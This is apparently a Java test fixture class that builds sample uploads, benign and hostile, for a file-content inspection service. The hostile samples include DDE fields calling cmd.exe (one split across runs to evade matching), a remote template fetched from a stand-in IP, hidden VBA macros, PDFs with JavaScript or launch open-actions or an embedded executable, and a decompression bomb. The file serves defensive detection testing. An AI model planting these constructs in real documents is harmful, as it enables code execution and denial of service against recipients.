package cn.safecommunity.material;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Small real files of the kinds that people upload, good and bad ones. */
public final class SampleMaterials {

    private static final IncomingFiles FILES = new IncomingFiles(new ContentInspection());

    private SampleMaterials() {}

    interface Writing {
        void to(ByteArrayOutputStream out) throws Exception;
    }

    private static byte[] bytes(Writing writing) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            writing.to(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    public static byte[] pdf() {
        return pdf("");
    }

    /** One of that many bytes, most of them a remark. */
    public static byte[] pdf(int size) {
        return pdf("%" + "x".repeat(size - pdf().length - 2) + "\n");
    }

    private static byte[] pdf(String remark) {
        String head = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n";
        String xref = "xref\n0 1\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n" + head.length()
                + "\n%%EOF\n";
        return (head + remark + xref).getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] docx(String text) {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.createParagraph().createRun().setText(text);
                document.write(out);
            }
        });
    }

    public static byte[] xlsx() {
        return bytes(out -> {
            try (XSSFWorkbook workbook = new XSSFWorkbook()) {
                workbook.createSheet("2014").createRow(0).createCell(0).setCellValue(3);
                workbook.write(out);
            }
        });
    }

    public static byte[] xls() {
        return bytes(out -> {
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                workbook.createSheet("2014").createRow(0).createCell(0).setCellValue(3);
                workbook.write(out);
            }
        });
    }

    public static byte[] image(String format) {
        return bytes(out -> ImageIO.write(new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB), format, out));
    }

    static byte[] zip() {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("读我.txt"));
                zip.write("hello".getBytes(StandardCharsets.UTF_8));
            }
        });
    }

    static byte[] exe() {
        byte[] file = new byte[512];
        file[0] = 'M';
        file[1] = 'Z';
        file[0x3c] = (byte) 0x80;
        file[0x80] = 'P';
        file[0x81] = 'E';
        return file;
    }

    /** What Word writes as .docm: the main part is declared macro-enabled. */
    static byte[] docm() {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                OPCPackage parts = document.getPackage();
                parts.replaceContentType(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml");
                document.write(out);
            }
        });
    }

    /** A document that is declared plain and still carries a macro project. */
    static byte[] docxWithHiddenMacros() {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                try (var project = document.getPackage()
                        .createPart(
                                PackagingURIHelper.createPartName("/word/vbaProject.bin"),
                                "application/vnd.ms-office.vbaProject")
                        .getOutputStream()) {
                    project.write(1);
                }
                document.write(out);
            }
        });
    }

    static byte[] xlsWithMacros() {
        return bytes(out -> {
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                workbook.createSheet("2014");
                ByteArrayOutputStream plain = new ByteArrayOutputStream();
                workbook.write(plain);
                try (POIFSFileSystem files = new POIFSFileSystem(new ByteArrayInputStream(plain.toByteArray()))) {
                    files.getRoot().createDirectory("_VBA_PROJECT_CUR");
                    files.writeFilesystem(out);
                }
            }
        });
    }

    static byte[] docxWithPassword() {
        return bytes(out -> {
            try (POIFSFileSystem files = new POIFSFileSystem()) {
                Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                encryptor.confirmPassword("secret");
                try (var encrypted = encryptor.getDataStream(files)) {
                    encrypted.write(docx("内部"));
                }
                files.writeFilesystem(out);
            }
        });
    }

    /** What a signed electronic paper of the government looks like from outside (GB/T 33190-2016). */
    public static byte[] ofd() {
        return zipOf(Map.of(
                "OFD.xml",
                "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.1\" DocType=\"OFD\"/>",
                "Doc_0/Document.xml",
                "<ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
    }

    static byte[] ofdWithPassword() {
        return zipOf(
                Map.of("OFD.xml", "<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\"/>", "Encryptions.xml", "<x/>"));
    }

    /** A zip of texts. */
    static byte[] zipOf(Map<String, String> parts) {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map.Entry<String, String> part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                }
            }
        });
    }

    /** The same document with one more part. */
    private static byte[] with(byte[] document, String name, String content) {
        return bytes(out -> {
            try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(document));
                    ZipOutputStream zip = new ZipOutputStream(out)) {
                for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                    if (!entry.getName().equals(name)) {
                        zip.putNextEntry(new ZipEntry(entry.getName()));
                        in.transferTo(zip);
                    }
                }
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content.getBytes(StandardCharsets.UTF_8));
            }
        });
    }

    static byte[] docxWithRemoteTemplate() {
        return with(
                docx("x"),
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"http://198.51.100.7/t.dotm\" TargetMode=\"External\"/></Relationships>");
    }

    static byte[] docxWithLink() {
        return with(
                docx("x"),
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
                        + " Target=\"http://www.ankang.gov.cn/\" TargetMode=\"External\"/></Relationships>");
    }

    /** The field's code stands in two pieces, as Word writes it after an edit. */
    static byte[] docxWithDde() {
        return with(
                docx("x"),
                "word/header1.xml",
                "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p><w:r><w:instrText>"
                        + "DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p></w:hdr>");
    }

    static byte[] xlsxWithDde() {
        return with(
                xlsx(),
                "xl/externalLinks/externalLink1.xml",
                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink"
                        + " ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
    }

    static byte[] xlsxWithMacroSheet() {
        return with(xlsx(), "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>");
    }

    static byte[] xlsWithPassword() {
        return bytes(out -> {
            Biff8EncryptionKey.setCurrentUserPassword("secret");
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                workbook.createSheet("2014").createRow(0).createCell(0).setCellValue(3);
                workbook.write(out);
            } finally {
                Biff8EncryptionKey.setCurrentUserPassword(null);
            }
        });
    }

    /** A PDF with one page and with what is put into it. */
    private static byte[] pdf(Consumer<PDDocument> more) {
        return bytes(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                more.accept(document);
                document.save(out);
            }
        });
    }

    static byte[] pdfWithScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
    }

    static byte[] pdfThatLaunches() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionLaunch()));
    }

    static byte[] pdfWithAFileInIt() {
        return pdf(document -> {
            PDComplexFileSpecification file = new PDComplexFileSpecification();
            file.setFile("x.exe");
            try {
                file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(exe())));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("x", file));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** The user password is asked for at opening; the other one only protects against changes. */
    static byte[] pdfWithPassword(String toOpen) {
        return pdf(document -> {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", toOpen, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            try {
                document.protect(policy);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** Two hundred megabytes of zeros where a reader looks for objects. */
    static byte[] pdfThatUnpacksToTooMuch() {
        byte[] packed = bytes(out -> {
            try (DeflaterOutputStream deflated = new DeflaterOutputStream(out)) {
                for (int i = 0; i < 200; i++) {
                    deflated.write(new byte[1024 * 1024]);
                }
            }
        });
        return bytes(out -> {
            out.write(pdf());
            out.write(("9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + packed.length + ">>stream\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.write(packed);
            out.write("\nendstream endobj\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        });
    }

    /** Takes a file in, through the checks that each passes, and keeps nothing of it. */
    public static void takeIn(byte[] file) {
        FILES.take("材料.pdf", new ByteArrayInputStream(file), IncomingFile::sha256);
    }

    static byte[] half(byte[] whole) {
        return Arrays.copyOf(whole, whole.length * 2 / 3);
    }
}
